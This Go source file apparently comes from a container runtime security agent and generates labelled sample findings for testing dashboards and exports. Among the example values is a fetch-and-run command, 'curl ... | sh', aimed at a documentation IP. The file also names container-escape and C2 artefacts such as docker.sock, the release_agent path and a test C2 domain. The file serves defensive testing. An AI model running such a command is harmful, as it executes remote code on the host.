package finding

import (
	"time"

	"github.com/mamori-dev/mamori/internal/event"
)

// Samples returns one sample finding of every catalogue type, marked as
// samples (title prefixed "[SAMPLE]", additionalInfo.sample true), so
// users can wire exports and dashboards before a real attack. Each carries
// every context key its type declares, with an example value, and they
// pass Validate like real findings. Resources alternate between a
// Kubernetes pod's container, a plain container and the host.
func Samples(agent Agent) []*Finding {
	now := time.Now().UTC()
	out := make([]*Finding, 0, len(Catalogue))
	for i, k := range Catalogue {
		ev := &event.Event{
			Time: now,
			Process: event.Process{PID: 4242, NSPID: 7, UID: 0, EUID: 0, Comm: "sample", UUID: "00000000-0000-4000-8000-000000000001",
				ParentUUID: "00000000-0000-4000-8000-000000000000", Exe: "/usr/bin/sample", Args: []string{"sample", "--demo"},
				ExeSHA256: "0000000000000000000000000000000000000000000000000000000000000000",
				Cwd:       "/", User: "root", Start: now.Add(-time.Minute),
				Lineage: []event.Ancestor{{PID: 4241, UUID: "00000000-0000-4000-8000-000000000000", Name: "sh", Exe: "/bin/sh",
					Args: []string{"sh"}, Start: now.Add(-2 * time.Minute)}}},
		}
		switch i % 3 {
		case 0:
			ev.Container = &event.Container{ID: "0000000000000000000000000000000000000000000000000000000000sample",
				Name: "sample-container", Runtime: "containerd", Image: "registry.example.com/sample:1.0",
				Pod: &event.Pod{Name: "sample-pod", Namespace: "default", UID: "00000000-0000-4000-8000-0000000000aa"}}
		case 1:
			ev.Container = &event.Container{ID: "1111111111111111111111111111111111111111111111111111111111sample",
				Name: "sample-container", Runtime: "podman", Image: "localhost/sample:1.0"}
		}
		ctx := map[string]any{"result": "success"}
		for _, key := range k.Context {
			ctx[key] = sampleValue(key, now)
		}
		f := New(k.Type, ev, agent, "sample", ctx)
		f.Title = "[SAMPLE] " + f.Title
		f.Service.AdditionalInfo.Sample = true
		f.Service.Detector.Name = "sample" // a SIEM rule keyed on the detector sees what made it
		if k.Intel {
			f.Service.Evidence = &Evidence{ThreatIntelligenceDetails: []ThreatIntel{{
				ThreatListName: "mamori-sample-list", ThreatNames: []string{"sample threat"}, Indicator: "guarddutyc2activityb.com"}}}
		}
		out = append(out, f)
	}
	return out
}

// sampleValue is an example value of a context key, shaped as detectors
// fill it.
func sampleValue(key string, now time.Time) any {
	switch key {
	case "remoteIpDetails":
		return map[string]any{"ipAddressV4": "198.51.100.7"}
	case "remotePort", "localPort":
		return 443
	case "addressFamily":
		return "inet"
	case "connectResult":
		return ""
	case "domain":
		return "c2.guarddutyc2activityb.com"
	case "queryType":
		return "A"
	case "dnsServer":
		return "10.0.0.2"
	case "protocol":
		return "udp"
	case "answers":
		return []string{"169.254.169.254"}
	case "executablePath", "threatFilePath", "binaryPath":
		return "/tmp/sample-payload"
	case "scriptPath":
		return "/tmp/sample.sh"
	case "libraryPath":
		return "/tmp/libsample.so"
	case "modifiedAt":
		return now.Add(-30 * time.Second)
	case "modifyingProcess":
		return map[string]any{"name": "curl", "executablePath": "/usr/bin/curl", "pid": 4240}
	case "upperLayer", "memfd", "setuidMode":
		return true
	case "deleted":
		return false
	case "memoryRegions":
		return []string{"memfd:sample (deleted)"}
	case "shell":
		return "/bin/sh"
	case "remoteAddress":
		return "198.51.100.7"
	case "networkFacingProcess":
		return "/usr/sbin/sample-server"
	case "targetProcess":
		return map[string]any{"pid": 4243}
	case "ptraceRequest":
		return "PTRACE_POKETEXT"
	case "filePath":
		return "/etc/sample"
	case "moduleName":
		return "sample_mod"
	case "moduleFilePath":
		return "/tmp/sample_mod.ko"
	case "moduleSha256", "threatFileSha256":
		return "0000000000000000000000000000000000000000000000000000000000000000"
	case "commandLineExample":
		return "sh -c curl -s http://198.51.100.7/x | sh"
	case "technique":
		return "sample technique"
	case "ldPreloadValue":
		return "/tmp/libsample.so"
	case "serviceName":
		return "auditd"
	case "shellHistoryFilePath":
		return "/root/.bash_history"
	case "fileOperation":
		return "write"
	case "toolName":
		return "sampletool"
	case "toolCategory":
		return "scanner"
	case "mountSource":
		return "/dev/vda1"
	case "mountTarget":
		return "/mnt/host"
	case "fileSystemType":
		return "ext4"
	case "flags":
		return 0
	case "socketPath":
		return "/var/run/docker.sock"
	case "engineSocket":
		return "/var/run/docker.sock"
	case "runcBinaryPath":
		return "/usr/bin/runc"
	case "releaseAgentPath":
		return "/sys/fs/cgroup/rdma/release_agent"
	case "userId":
		return 1000
	case "euid":
		return 0
	case "socketType":
		return "raw"
	case "ianaProtocolNumber":
		return 1
	}
	return "sample"
}
